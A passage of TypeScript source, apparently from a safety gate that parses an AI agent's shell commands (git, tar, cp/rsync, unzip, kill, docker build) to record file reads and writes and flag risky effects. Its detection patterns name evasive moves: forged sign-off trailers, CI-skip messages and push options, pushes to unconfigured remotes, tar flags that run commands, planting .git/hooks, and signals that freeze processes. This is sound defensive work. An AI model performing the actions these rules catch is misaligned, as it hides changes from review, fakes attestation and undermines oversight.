      if (pattern === undefined) pattern = null;
      continue;
    }
    const eq = v.startsWith("--") ? v.indexOf("=") : -1;
    const name = eq > 0 ? v.slice(0, eq) : v;
    if (GIT_CONFIG_VALUED.test(name)) {
      const val = eq > 0 ? v.slice(eq + 1) : (rest[++k]?.value ?? null);
      if (name === "-f" || name === "--file") file = true;
      else if (name === "--blob") {
        file = true;
        const at = val?.indexOf(":") ?? -1;
        if (val !== null && at >= 0 && at < val.length - 1) fx.reads.push(val.slice(at + 1));
      } else if (name === "--url") search = true;
      continue;
    }
    if (v === "--list" || (/^-[a-zA-Z]+$/.test(v) && v.includes("l"))) list = true;
    else if (v === "--get-regexp" || v === "--regexp" || v === "--get-urlmatch") search = true;
    else if (v === "--global" || v === "--system" || v === "--local" || v === "--worktree") scope = v;
    else if (!v.startsWith("-")) {
      if (sub === "config" && pattern === undefined && (v === "list" || v === "get")) {
        if (v === "list") list = true;
        continue;
      }
      if (pattern === undefined) pattern = v;
    }
  }
  if (
    sub === "var" ? !list : !list && !(search && (pattern === null || !GIT_PLAIN_SECTION.test(pattern ?? "")))
  )
    return;
  if (file) return;
  const repo =
    fx.repo === null ? null : fx.repo.explicit ? `${fx.repo.dir}/config` : `${fx.repo.dir}/.git/config`;
  if (scope === null || scope === "--local" || scope === "--worktree") {
    if (repo !== null) fx.reads.push(repo);
    if (scope !== null) return;
  }
  if (scope === null || scope === "--global") fx.reads.push("~/.gitconfig", "~/.config/git/config");
  if (scope === null || scope === "--system") fx.reads.push("/etc/gitconfig");
}

/** Each subcommand's long options (a trailing `=`: it takes a value), split once at load. */
const GIT_LONG_LISTS = new Map(
  Object.entries(GIT_LONGS).map(([sub, list]) => {
    const names = list.split(" ");
    return [
      sub,
      { names: names.map((n) => n.replace(/=$/, "")), valued: new Set(names.filter((n) => n.endsWith("="))) },
    ];
  }),
);

/** Short options of the subcommands gitHistory reads that take a value (the next word, or attached). */
const GIT_SHORT_VALUES: Record<string, string> = wordTable({
  commit: "mFCctS",
  push: "o",
  am: "S",
  rebase: "xsXS",
});

/**
 * The options of `git SUB …` with their values, each long one by its full name (parse-options
 * takes any unambiguous prefix: `push --mirr` is `--mirror`, `commit --reuse-m=X` is
 * `--reuse-message=X`); the full names join the flags the rules judge. Null for a subcommand
 * without a table.
 */
function gitOptions(sub: string, rest: Word[], fx: Effects): [string, string | null][] | null {
  const known = GIT_LONG_LISTS.get(sub);
  if (known === undefined) return null;
  const shorts = GIT_SHORT_VALUES[sub] ?? "";
  const out: [string, string | null][] = [];
  for (let k = 0; k < rest.length; k++) {
    const v = rest[k]!.value;
    if (v === null || v === "-" || !v.startsWith("-")) continue;
    if (v === "--") break;
    if (v.startsWith("--")) {
      const eq = v.indexOf("=");
      let name = eq > 0 ? v.slice(0, eq) : v;
      if (!known.names.includes(name)) {
        const full = longPrefix(name, known.names);
        if (!full) continue;
        name = full;
        fx.longFlags.push(full);
      }
      const valued = known.valued.has(`${name}=`);
      out.push([name, eq > 0 ? v.slice(eq + 1) : valued ? (rest[++k]?.value ?? null) : null]);
      continue;
    }
    // A bundle of short flags: the first that takes a value takes the rest of the word, or the next.
    for (let c = 1; c < v.length; c++) {
      const f = v[c]!;
      if (!shorts.includes(f)) {
        out.push([`-${f}`, null]);
        continue;
      }
      out.push([`-${f}`, c + 1 < v.length ? v.slice(c + 1) : (rest[++k]?.value ?? null)]);
      break;
    }
  }
  return out;
}

/** Trailers that say another person signed, reviewed, tested or approved a change. */
const ATTESTING_TRAILER = /^\s*(signed-off-by|reviewed-by|acked-by|tested-by|approved-by)\s*[:=]/im;
/** A commit message that tells CI to skip the change (GitHub, GitLab, Azure, Bitbucket, CircleCI, Travis). */
const CI_SKIP_MESSAGE =
  /\[(?:skip[ -]ci|ci[ -]skip|no[ -]ci|skip[ -]actions|actions[ -]skip|skip azurepipelines|azurepipelines skip|skip netlify|skip travis)\]|\*\*\*NO_CI\*\*\*/i;
/** GitHub's trailer that skips every check run of the commit (`skip-checks: true`), in a message or --trailer. */
const CI_SKIP_TRAILER = /^\s*skip-checks\s*[:=]\s*true\b/im;
/** Push options that skip the server's pipeline or its integrations (GitLab `ci.skip`, `integrations.skip_ci`). */
const CI_SKIP_OPTION = /^(?:ci\.skip|integrations\.skip_ci|ci\.skip=.*)$/i;
/** Options that make a commit copy another commit's message with its author and date. */
const REUSE_COMMIT = new Set(["-C", "-c", "--reuse-message", "--reedit-message"]);

/**
 * History that lies about itself: a commit that copies another commit's author and date (`-C X`
 * without `--reset-author`; `--amend -C HEAD` keeps HEAD's own), a trailer naming someone who
 * signed or reviewed it, a message or push option that tells CI to skip the change.
 */
function gitHistory(sub: string, opts: [string, string | null][], ctx: EffectsCtx, fx: Effects): void {
  if (sub === "commit") {
    let reuse: [string, string | null] | undefined;
    let amend = false;
    let reset = false;
    for (const o of opts) {
      const [name, val] = o;
      if (REUSE_COMMIT.has(name)) reuse = o;
      else if (name === "--amend") amend = true;
      else if (name === "--reset-author") reset = true;
      else if (name === "--trailer" && (val === null || ATTESTING_TRAILER.test(val)))
        floor(
          fx,
          `identity: '${ctx.text}' adds a trailer that says someone signed or reviewed the change (--trailer)`,
        );
      else if (name === "--trailer" && CI_SKIP_TRAILER.test(val!))
        floor(fx, `ci-skip: '${ctx.text}' adds a trailer that tells GitHub to skip the change's checks`);
      else if (name === "-m" || name === "--message") {
        if (val === null || ATTESTING_TRAILER.test(val))
          floor(
            fx,
            `identity: '${ctx.text}' writes a trailer that says someone signed or reviewed the change (${name})`,
          );
        if (val === null || CI_SKIP_MESSAGE.test(val) || CI_SKIP_TRAILER.test(val))
          floor(fx, `ci-skip: '${ctx.text}' writes a commit message that tells CI to skip the change`);
      }
    }
    if (reuse !== undefined && !reset && !(amend && (reuse[1] === "HEAD" || reuse[1] === "@")))
      floor(
        fx,
        `identity: '${ctx.text}' copies the author and date of another commit (${reuse[0]} ${reuse[1] ?? "?"})`,
      );
  } else if (sub === "push") {
    for (const [name, val] of opts)
      if ((name === "-o" || name === "--push-option") && (val === null || CI_SKIP_OPTION.test(val)))
        floor(
          fx,
          `ci-skip: '${ctx.text}' tells the server to skip its pipeline for the pushed change (${name} ${val ?? "?"})`,
        );
  }
}

const RECURSIVE_COPY = /^(-[a-zA-Z]*[rRa]|--recursive|--archive)$/;
const CP_VALUED = new Set(["-t", "--target-directory", "-S", "--suffix"]);
const DITTO_VALUED = new Set(["--arch", "--bom"]);
const RSYNC_VALUED = new Set(
  "--exclude --include --filter -f --exclude-from --include-from --files-from --backup-dir --suffix --chmod --chown --log-file --partial-dir --temp-dir -T --compare-dest --copy-dest --link-dest --timeout --bwlimit --port --password-file".split(
    " ",
  ),
);

/**
 * A recursive copy (`cp -R SRC/. DEST`, `ditto`, `rsync -a`): every file below the sources lands
 * below DEST under a name the gate never sees, so DEST is a tree and, when some source lies outside
 * the workspace (or is only known at run time) and DEST inside it, the names it writes are only
 * known at run time: each write rule (`.git/hooks`, `.envrc`, `.vscode` …) may match (issue 19 §3).
 */
function treeCopy(
  words: Word[],
  valued: ReadonlySet<string>,
  ctx: EffectsCtx,
  fx: Effects,
  specRead: boolean,
): void {
  const ops: (string | null)[] = [];
  let target: string | null | undefined;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) ops.push(null);
    else if (v === "-t" || v === "--target-directory") target = words[++i]?.value ?? null;
    else if (v.startsWith("--target-directory=")) target = v.slice(19);
    else if (valued.has(v)) i++;
    else if (!v.startsWith("-") || v === "-") ops.push(v);
  }
  const dest = target !== undefined ? target : ops.length > 1 ? ops.pop()! : undefined;
  if (dest === undefined) return;
  fx.copy = true;
  // cp's spec already read its operands and wrote its target; ditto and rsync have no spec.
  if (!specRead && target === undefined) {
    if (dest !== null) fx.writes.push(dest);
    for (const o of ops) if (o !== null) fx.reads.push(o);
  }
  const fromOutside = ops.some((o) => o === null || !ctx.inWorkspace(o) || /^[^/]*:/.test(o));
  if (fromOutside && (dest === null || ctx.inWorkspace(dest))) {
    fx.tree = dest ?? "/";
    fx.dynamicWrite = true;
  }
}

/**
 * `git fetch URL` stores commits nobody read as FETCH_HEAD (the tree it names is `.git/FETCH_HEAD`,
 * so the network taints it); a later checkout, restore, merge, cherry-pick … of FETCH_HEAD reads it
 * and writes those files into the work tree (its tree is the cwd, or the worktree it adds).
 */
function gitFetched(sub: string, dir: string, rest: Word[], ctx: EffectsCtx, fx: Effects): void {
  const head = `${dir}/.git/FETCH_HEAD`;
  if (sub === "fetch") {
    let url = false;
    for (const w of rest) if (w.value === null || REPO_URL.test(w.value)) url = true;
    if (!url) return;
    fx.tree = head;
    for (const w of rest) {
      const v = w.value;
      // `git@host:x/y.git` names its host without a scheme: the network still wrote FETCH_HEAD.
      const h = v !== null && /^[^@/\s]+@[^:/\s]+:/.test(v) ? hostOf(v) : null;
      if (h && !fx.hosts.includes(h)) fx.hosts.push(h);
      // `git fetch URL main:topic`: the fetched commits get a local name a later checkout uses.
      if (v === null || (!v.startsWith("-") && v.includes(":") && !REPO_URL.test(v)))
        floor(fx, `git-remote: '${ctx.text}' fetches from a repository nobody configured into a local ref`);
    }
    return;
  }
  let named = false;
  for (const w of rest)
    if (w.value?.includes("FETCH_HEAD") && /(^|=|\.\.)FETCH_HEAD\b/.test(w.value)) named = true;
  if (!named) return;
  fx.reads.push(head);
  if (sub === "worktree") {
    const ops = rest.map((w) => w.value).filter((v) => v === null || !v.startsWith("-"));
    if (ops[0] === "add") fx.tree = ops[1] ?? "/";
  } else if (GIT_TREE_WRITERS.has(sub)) fx.tree = dir;
}

/** The directory `git clone URL` (or `gh repo clone OWNER/NAME`) makes: the URL's last part, less `.git`. */
function cloneDir(url: string | null): string | null {
  return (
    url
      ?.replace(/\/+$/, "")
      .replace(/\.git$/, "")
      .replace(/^.*[/:]/, "") || null
  );
}

/** A repository named by URL or path rather than by a configured remote. */
const REPO_URL = /^([a-z][a-z0-9+.-]*:\/\/|[^@/\s]+@[^:/\s]+:|[./~])/i;
/** `[user@]host:path` with no slash before the colon: git's scp-like ssh remote; group 1 the host. */
const SCP_REMOTE = /^(?:[^@/\s:]+@)?(\[[^\]/]+\]|[^@/\s:[]+):(?!\/\/)/;
/** Which operand of a git subcommand names a repository (-1: `remote add NAME URL` / `set-url … URL`). */
const GIT_REPO_OPERAND: Record<string, number> = wordTable({
  clone: 0,
  fetch: 0,
  pull: 0,
  push: 0,
  "ls-remote": 0,
  remote: -1,
  submodule: 1,
});

/**
 * What git subcommands do with their operands: `worktree add DIR`, `clone URL DIR` and
 * `submodule add URL DIR` write DIR; `push URL` / `pull URL` trade with a repository nobody
 * configured; `remote add|set-url` redirects later pushes; `--no-index` reads any file.
 */
function gitOperands(sub: string, rest: Word[], ctx: EffectsCtx, fx: Effects): void {
  const ops: (string | null)[] = [];
  let noIndex = false;
  for (let k = 0; k < rest.length; k++) {
    const v = rest[k]!.value;
    if (v === "--no-index") noIndex = true;
    else if ((sub === "push" || sub === "pull" || sub === "fetch") && v !== null && /^--repo(=|$)/.test(v)) {
      const url = v.includes("=") ? v.slice(7) : (rest[++k]?.value ?? null);
      if (url === null || REPO_URL.test(url))
        floor(
          fx,
          `git-remote: '${ctx.text}' names the repository ${url === null ? "only at run time" : `'${url}'`} (--repo), not a configured remote`,
        );
    } else if (v === "--") {
      for (const w of rest.slice(k + 1)) ops.push(w.value);
      break;
    } else if (v === null || !v.startsWith("-")) ops.push(v);
    else if (
      /^(-b|-B|--branch|-o|--origin|--reason|--depth|--reference|--template|-c|--config|--separate-git-dir|-j|--jobs|--filter|--name)$/.test(
        v,
      )
    )
      k++;
  }
  // gate49: git's scp-like spelling of an ssh remote (`[user@]host:path`, no slash before the
  // colon) names the host it connects to, as a URL does (the walk reads those): the repository
  // operand of clone/fetch/pull/push/ls-remote, the URL of remote add/set-url, submodule add.
  const repoAt = GIT_REPO_OPERAND[sub];
  if (repoAt !== undefined) {
    const at =
      repoAt < 0
        ? ops[0] === "add"
          ? 2
          : ops[0] === "set-url"
            ? ops.length - 1
            : -1
        : repoAt > 0 && ops[0] !== "add"
          ? -1
          : repoAt;
    const v = at >= 0 ? ops[at] : undefined;
    const m = v == null ? null : SCP_REMOTE.exec(v);
    if (m) {
      const h = canonicalHost(m[1]!);
      if (h !== "" && !fx.hosts.includes(h)) fx.hosts.push(h);
      urlDataFloor(`${h}/${v!.slice(m[0].length)}`, ctx, fx);
    }
  }
  // `git rm` deletes from the work tree what it names (not with --cached, nor a dry run):
  // `git rm -r .github/workflows` removes the checks, as `rm -rf` does.
  if (
    sub === "rm" &&
    !rest.some((w) => w.value !== null && /^(?:--cached|-n|--dry-run|-[a-zA-Z]*n[a-zA-Z]*)$/.test(w.value))
  )
    for (const o of ops) apply("write", "rm", o, ctx, fx);
  if (sub === "mv" && ops.length >= 2) {
    // `git mv -f x Makefile`, `git mv a b DIR`: the last operand is written (or DIR/<basename>),
    // and the sources are removed (`git mv .husky .husky-old`).
    const last = ops[ops.length - 1]!;
    fx.copy = true;
    apply("write", "mv", last, ctx, fx);
    for (const o of ops.slice(0, -1)) if (o !== null) movedAway(o, ctx, fx);
    if (last !== null)
      intoDir(
        fx,
        last,
        ops.slice(0, -1).map((value) => ({ value, glob: false })),
      );
  } else if (sub === "worktree" && ops[0] === "add") apply("write", "worktree add", ops[1] ?? null, ctx, fx);
  else if (sub === "clone" && ops.length >= 1) {
    apply("write", "clone", ops[1] ?? cloneDir(ops[0]!), ctx, fx);
  } else if (sub === "submodule" && ops[0] === "add")
    apply("write", "submodule add", ops[2] ?? null, ctx, fx);
  else if ((sub === "push" || sub === "pull") && ops[0] != null && REPO_URL.test(ops[0]))
    floor(
      fx,
      `git-remote: '${ctx.text}' ${sub === "push" ? "sends the repository to" : "merges code from"} '${ops[0]}', not a configured remote`,
    );
  else if ((sub === "push" || sub === "pull") && ops[0] === null)
    floor(fx, `git-remote: '${ctx.text}': the repository is only known at run time`);
  else if (
    sub === "remote" &&
    ops[0] !== undefined &&
    !["show", "get-url", "prune", "update"].includes(ops[0] ?? "")
  )
    floor(fx, `git-remote: '${ctx.text}' changes where later pushes and pulls go`);
  if (noIndex)
    for (const o of ops)
      if (o === null || !ctx.inWorkspace(o)) {
        floor(
          fx,
          `reads-outside: '${ctx.text}' reads ${o === null ? "a file only known at run time" : `'${o}'`} outside the repository (--no-index)`,
        );
        if (o !== null) fx.reads.push(o);
      }
}

/** `cmake -E CMD ARGS`: what the command does to its operands. */
function cmakeE(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const cmd = words[0]?.value;
  const role = cmd == null ? undefined : CMAKE_E[cmd];
  if (role === undefined) {
    floor(fx, `unknown-flag: '${ctx.text}': 'cmake -E ${cmd ?? "?"}' is not a command the gate knows`);
    return;
  }
  const ops = words.slice(1).filter(isOperand);
  if (role === "copy") {
    fx.copy = true;
    for (let k = 0; k < ops.length; k++)
      apply(k === ops.length - 1 ? "write" : "read", `-E ${cmd}`, ops[k]!.value, ctx, fx);
    return;
  }
  if (role === "cmd") {
    floor(fx, `code-runner: '${ctx.text}' runs a command (cmake -E ${cmd})`);
    return;
  }
  for (const o of ops) apply(role, `-E ${cmd}`, o.value, ctx, fx);
}

/** `find`: the output files of -fprint/-fprintf/-fls are written. */
function findEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === "-fprint" || v === "-fprint0" || v === "-fls" || v === "-fprintf")
      apply("write", v, words[i + 1]?.value ?? null, ctx, fx);
    else if (v === "-files0-from") apply("read", v, words[i + 1]?.value ?? null, ctx, fx);
  }
}

/**
 * gate56: the flags that give an interpreter its code inline (python -c, node/bun -e/-p, ruby and
 * perl -e, php -r): what the code copies is judged as a copy (inlineCopies).
 */
const INLINE_CODE_FLAGS: Record<string, readonly string[] | undefined> = wordTable({
  python: ["-c"],
  node: ["-e", "--eval", "-p", "--print"],
  bun: ["-e", "--eval", "-p", "--print"],
  ruby: ["-e"],
  perl: ["-e", "-E"],
  php: ["-r"],
});

/** A string literal of the languages above, without escapes or interpolation (its text is the path). */
const CODE_STR = String.raw`(?:"([^"\\$]*)"|'([^'\\]*)'|\x60([^\x60\\$]*)\x60)`;
/**
 * Calls that copy, move or link a file to another, with both names literal: shutil.copy/copy2/
 * copyfile/copytree/move, os.rename/replace/link/symlink, pathlib's Path(A).rename/replace/copy(B);
 * node's fs copyFile(Sync), cp(Sync), rename(Sync), link(Sync), symlink(Sync); Ruby's FileUtils
 * cp/cp_r/mv/copy_file/copy_entry/ln/ln_s, File.rename, IO.copy_stream; Perl's File::Copy
 * copy/move and rename; PHP's copy and rename. Parentheses optional (Ruby, Perl).
 */
const CODE_COPY = new RegExp(
  String.raw`(?:\b(?:shutil\.(?:copy2?|copyfile|copytree|move)|os\.(?:rename|replace|link|symlink)|(?:fs\w*\.|promises\.|\b)(?:copyFile|cp|rename|link|symlink)(?:Sync)?|FileUtils\.(?:cp_r|cp|mv|copy_file|copy_entry|copy|ln_s|ln)|File\.(?:rename|copy)|IO\.copy_stream|(?:File::Copy::)?(?:copy|move))\s*\(?\s*${CODE_STR}|\bPath\(\s*${CODE_STR}\s*\)\.(?:rename|replace|copy|symlink_to|hardlink_to)\(\s*)\s*,?\s*${CODE_STR}`,
  "g",
);
/** Longest inline code scanned for copies; beyond it, nothing is learned (the code is ESCALATE). */
const CODE_COPY_BUDGET = 65536;

/**
 * gate56: the copies inline code makes with literal names (as protect.ts sees paths inside code):
 * the source is read and the destination written, and what the session knew of the source
 * follows to the destination (Effects.copy, gate48): `python3 -c 'shutil.copy("notes.txt",
 * "run.sh")'` makes run.sh the unread code notes.txt was. The code is ESCALATE whatever it does.
 */
function inlineCopies(program: string, words: readonly Word[], fx: Effects): void {
  const flags = INLINE_CODE_FLAGS[program]!;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    let code: string | null | undefined;
    if (flags.includes(v)) code = words[i + 1]?.value;
    else if (v.length > 2 && flags.includes(v.slice(0, 2)) && !v.startsWith("--")) code = v.slice(2);
    if (code === undefined || code === null || code.length > CODE_COPY_BUDGET) continue;
    for (const m of code.matchAll(CODE_COPY)) {
      const from = m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5] ?? m[6];
      const to = m[7] ?? m[8] ?? m[9];
      if (from === undefined || to === undefined || from === "" || to === "") continue;
      fx.reads.push(from);
      fx.writes.push(to);
      fx.copy = true;
    }
  }
}

/**
 * `kill`: process ids in canonical form, so the pack's PID rules see `01`, `+1` and `' 1'` as `1`
 * (the words are rewritten in place) and a pid spelled like a flag (`kill -9 -1`, `kill -s KILL -1`)
 * as the operand it is (`fx.pids`, gate56: the pack's kill-init judges pid -1 in every spelling);
 * process group 0 is every process of the caller's group. `%1` is a job of this shell, not a pid.
 */
function killEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let end = false;
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    const v = w.value;
    if (v === null) continue;
    if (!end && v === "--") {
      end = true;
      continue;
    }
    if (!end && (v === "-s" || v === "-n" || v === "--signal")) {
      stopSignal(words[++i]?.value ?? null, ctx, fx);
      continue;
    }
    if (!end && v.startsWith("--signal=")) {
      stopSignal(v.slice(9), ctx, fx);
      continue;
    }
    const m = /^\s*([+-]?)0*(\d+)\s*$/.exec(v);
    if (!m) {
      // `-STOP`, `-SIGSTOP`, `-stop`; `-sSTOP` (the name attached to -s).
      if (!end && i === 0 && v.startsWith("-"))
        stopSignal(FREEZE_SIGNAL.test(v.slice(1)) || !v.startsWith("-s") ? v.slice(1) : v.slice(2), ctx, fx);
      continue;
    }
    // A flag-looking `-9` first, before `--`, is a signal (`-1` SIGHUP, `-15` SIGTERM), unless it is
    // the only word (`kill -1`: read as the pid, the stricter reading).
    if (!end && m[1] === "-" && i === 0 && words.length > 1) {
      stopSignal(m[2]!, ctx, fx);
      continue;
    }
    const pid = `${m[1] === "-" ? "-" : ""}${Number(m[2])}`;
    w.value = pid;
    fx.pids ??= [];
    fx.pids.push(w);
    if (pid === "0" || pid === "-0")
      floor(fx, `signals: '${ctx.text}' signals every process of the caller's process group`);
    // gate49: `kill -- -PGID`: every process of that group, the agent's own group if it is (the
    // gate knows the agent's groups only where it runs as the daemon). Pid -1 (every process the
    // user may signal) is the pack's kill-init, which now sees it in every spelling.
    else if (pid.startsWith("-") && pid !== "-1")
      floor(fx, `signals: '${ctx.text}' signals every process of process group ${pid.slice(1)}`);
  }
}

/**
 * gate49: the job-control signals that freeze a process (STOP, TSTP, TTIN, TTOU; numbered 17-22 on
 * macOS and Linux): a stopped agent hangs its gate and every session waiting on it. Case-blind,
 * with or without SIG; a signal only known at run time could be one.
 */
const FREEZE_SIGNAL = /^(?:sig)?(?:stop|tstp|ttin|ttou)$|^0*(?:1[7-9]|2[0-2])$/i;

function stopSignal(sig: string | null, ctx: EffectsCtx, fx: Effects): void {
  if (sig === null || FREEZE_SIGNAL.test(sig))
    floor(
      fx,
      `signals: '${ctx.text}' ${sig === null ? "sends a signal only known at run time (it may stop the process)" : "stops (freezes) the process it signals"}`,
    );
}

/**
 * `docker build -o type=local,dest=D`, `-o D`, `--output=D`: the image's files land under D (an
 * unknown set); `type=tar,dest=F` writes F.
 */
function buildOutput(words: Word[], fx: Effects): void {
  const b = words.findIndex((w) => w.value === "build");
  if (b < 0) return;
  for (let i = b + 1; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    let out: string | null | undefined;
    if (v === "-o" || v === "--output") out = words[++i]?.value ?? null;
    else if (v.startsWith("--output=")) out = v.slice(9);
    else if (v.startsWith("-o") && v.length > 2 && !v.startsWith("--")) out = v.slice(2);
    if (out === undefined) continue;
    if (out === null) {
      fx.dynamicWrite = true;
      continue;
    }
    if (out === "-") continue;
    const kv = new Map(
      out.includes("=")
        ? out.split(",").map((p) => [p.slice(0, p.indexOf("=")), p.slice(p.indexOf("=") + 1)])
        : [],
    );
    const dest = kv.size > 0 ? kv.get("dest") : out;
    const type = kv.get("type") ?? "local";
    if (dest === undefined) continue;
    if (type === "local") {
      fx.writes.push(dest);
      fx.subtrees.push(dest);
    } else if (dest !== "-") fx.writes.push(dest);
  }
}

/** `cp a b DIR`, `mv a DIR/`, `install -t DIR a`: each source lands as DIR/<its basename>. */
function intoDir(fx: Effects, dir: string, sources: readonly Word[]): void {
  for (const s of sources) {
    const v = s.value;
    if (v === null) continue;
    const base = v.replace(/\/+$/, "").replace(/^.*\//, "");
    if (base !== "" && base !== "." && base !== "..") fx.writes.push(`${dir.replace(/\/+$/, "")}/${base}`);
  }
}

/**
 * An extraction into `dir`: the members named on the line land as `dir/member` (a member that is a
 * directory ending in `/` brings its subtree); with none named, a pattern, or one only known at
 * run time, the whole of `dir`.
 */
function extracted(fx: Effects, dir: string, members: readonly (string | null)[]): void {
  if (members.length === 0 || members.includes(null) || members.some((m) => m !== null && /[*?[]/.test(m))) {
    fx.subtrees.push(dir);
    return;
  }
  const at = dir.replace(/\/+$/, "");
  for (const m of members) {
    if (m === null) continue;
    if (m.endsWith("/") || m === "." || m === "..") fx.subtrees.push(`${at}/${m}`);
    else fx.writes.push(`${at}/${m}`);
  }
}

/** unzip's archive: its first operand (a value of -d or -P is not one). */
function unzipArchive(words: Word[]): string[] {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === "-d" || v === "-P") i++;
    else if (v !== null && !v.startsWith("-")) return [v];
  }
  return [];
}

/** unzip's member operands (after the archive, before `-x`/`-d`): the files it extracts. */
function unzipMembers(words: Word[]): (string | null)[] {
  const out: (string | null)[] = [];
  let archive = false;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === "-x") break;
    if (v === "-d" || v === "-P") {
      i++;
      continue;
    }
    if (v?.startsWith("-")) continue;
    if (!archive) archive = true;
    else out.push(v);
  }
  return out;
}

const COMPRESSED = /\.(gz|z|xz|lzma|bz2|zst|lz4|br|tgz|tbz2?|txz|taz)$/i;

/** Programs that only expand to standard output (`zcat F.gz`, `xzcat`, `zstdcat`). */
const EXPAND_TO_STDOUT = new Set([
  "zcat",
  "gzcat",
  "xzcat",
  "lzcat",
  "bzcat",
  "zstdcat",
  "lz4cat",
  "unlz4",
  "unlzma",
  "zmore",
  "zless",
]);

/** The operands of an archiver's words (the archive first): what it expands. */
function archiveOperands(words: Word[]): string[] {
  const out: string[] = [];
  for (const w of words) if (w.value !== null && !w.value.startsWith("-")) out.push(w.value);
  return out;
}

/**
 * Decompression (`gunzip F.gz`, `xz -d F.xz`, `bzip2 -d`, `zstd -d`): writes F (`.tgz` → `.tar`);
 * `-r` over a directory rewrites every file under it; `-c`, `-t`, `-l` write nothing.
 */
function decompressed(program: string, words: Word[], fx: Effects): void {
  const un = program.startsWith("un") || program === "gunzip" || program === "bunzip2";
  let decompress = un;
  let recursive = false;
  let stdout = false;
  let list = false;
  const files: string[] = [];
  for (const w of words) {
    const v = w.value;
    if (v === null) continue;
    if (v === "--decompress" || v === "--uncompress") decompress = true;
    else if (v === "--stdout" || v === "--to-stdout" || v === "--test") stdout = true;
    else if (v === "--list") list = true;
    else if (v === "--recursive") recursive = true;
    else if (/^-[a-zA-Z0-9]+$/.test(v)) {
      if (/[dD]/.test(v) && program !== "brotli") decompress = true;
      if (program === "brotli" && /d/.test(v)) decompress = true;
      if (/[ct]/.test(v)) stdout = true;
      if (/l/.test(v)) list = true;
      if (/r/.test(v)) recursive = true;
    } else if (!v.startsWith("-")) files.push(v);
  }
  if (!decompress || list) return;
  fx.expands = files;
  if (stdout) return;
  for (const f of files) {
    if (recursive) fx.subtrees.push(f);
    const m = COMPRESSED.exec(f);
    if (m) fx.writes.push(f.slice(0, m.index) + (/^t/i.test(m[1]!) ? ".tar" : ""));
  }
}

/**
 * The directory named by one of `flags` (`-d DIR`, `-dDIR`, `--directory=DIR`), else the cwd; `/` when
 * it is only known at run time.
 */
function dirFlag(words: Word[], flags: string[]): string {
  let dir = ".";
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    for (const f of flags) {
      if (v === f) dir = words[i + 1]?.value ?? "/";
      else if (f.startsWith("--") && v.startsWith(`${f}=`)) dir = v.slice(f.length + 1);
      else if (!f.startsWith("--") && v.startsWith(f) && v.length > f.length) dir = v.slice(f.length);
    }
  }
  return dir;
}

/** `tar`: create writes the archive, extract writes into -C (or the cwd); code-running flags. */
function tarEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let mode = "";
  let absolute = false;
  let archive: string | null | undefined;
  let dir: string | null | undefined;
  const ops: (string | null)[] = [];
  const CMD = new Set([
    "--to-command",
    "-I",
    "--use-compress-program",
    "--checkpoint-action",
    "--info-script",
    "-F",
    "--new-volume-script",
    "--rsh-command",
    "--rmt-command",
  ]);
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      ops.push(null);
      continue;
    }
    // Old style: the first word is a bundle without a dash (`tar xzf a.tgz`).
    const bundle = i === 0 && !v.startsWith("-") ? `-${v}` : v;
    if (bundle.startsWith("--")) {
      const eq = bundle.indexOf("=");
      const name = eq > 0 ? bundle.slice(0, eq) : bundle;
      const val = () => (eq > 0 ? bundle.slice(eq + 1) : (words[++i]?.value ?? null));
      if (CMD.has(name)) {
        floor(fx, `code-runner: '${ctx.text}' runs the command given in ${name}`);
        if (eq < 0 && name !== "--checkpoint-action") i++;
      } else if (name === "--file") archive = val();
      else if (name === "--directory") dir = val();
      else if (name === "--files-from" || name === "--exclude-from") apply("read", name, val(), ctx, fx);
      else if (name === "--index-file" || name === "--listed-incremental")
        apply("write", name, val(), ctx, fx);
      else if (name === "--absolute-names") absolute = true;
      else if (name === "--create" || name === "--append" || name === "--update") mode = "c";
      else if (name === "--extract" || name === "--get") mode = "x";
      continue;
    }
    if (bundle.startsWith("-") && bundle.length > 1) {
      for (let k = 1; k < bundle.length; k++) {
        const c = bundle[k]!;
        if ("cru".includes(c)) mode = "c";
        else if (c === "x") mode = "x";
        else if (c === "P") absolute = true;
        else if (c === "I" || c === "F") {
          floor(fx, `code-runner: '${ctx.text}' runs the command given in -${c}`);
          if (k + 1 === bundle.length) i++;
          break;
        } else if (
          c === "f" ||
          c === "C" ||
          c === "T" ||
          c === "X" ||
          c === "g" ||
          c === "b" ||
          c === "N" ||
          c === "V" ||
          c === "K" ||
          c === "L"
        ) {
          const val = k + 1 < bundle.length ? bundle.slice(k + 1) : (words[++i]?.value ?? null);
          if (c === "f") archive = val;
          else if (c === "C") dir = val;
          else if (c === "T" || c === "X") apply("read", `-${c}`, val, ctx, fx);
          else if (c === "g") apply("write", "-g", val, ctx, fx);
          break;
        }
      }
      continue;
    }
    ops.push(v);
  }
  if (mode === "c") {
    if (archive !== undefined && archive !== "-") apply("write", "-f", archive, ctx, fx);
    for (const o of ops) apply("read", "member", o, ctx, fx);
  } else if (mode === "x") {
    if (archive !== undefined && archive !== "-") apply("read", "-f", archive, ctx, fx);
    apply("write", "-C", dir === undefined ? "." : dir, ctx, fx);
    fx.tree = dir === undefined ? "." : (dir ?? "/");
    // `-P`: members keep their absolute names (and `..`): they land anywhere. An archive read from
    // a pipe or from outside the workspace, extracted into it, names files the gate never saw
    // (`tar -C /tmp/s -c . | tar x` plants `.git/hooks`): as for a recursive copy.
    const into = dir === undefined || (dir !== null && ctx.inWorkspace(dir));
    const from = archive === undefined || archive === null || archive === "-" || !ctx.inWorkspace(archive);
    if (absolute || (into && from)) fx.dynamicWrite = true;
    extracted(fx, fx.tree, ops);
    fx.expands = archive === undefined || archive === null || archive === "-" ? [] : [archive];
  }
}

/** The options of sed that take a value, and the ones that take none. */
const SED_BOOL = new Set([
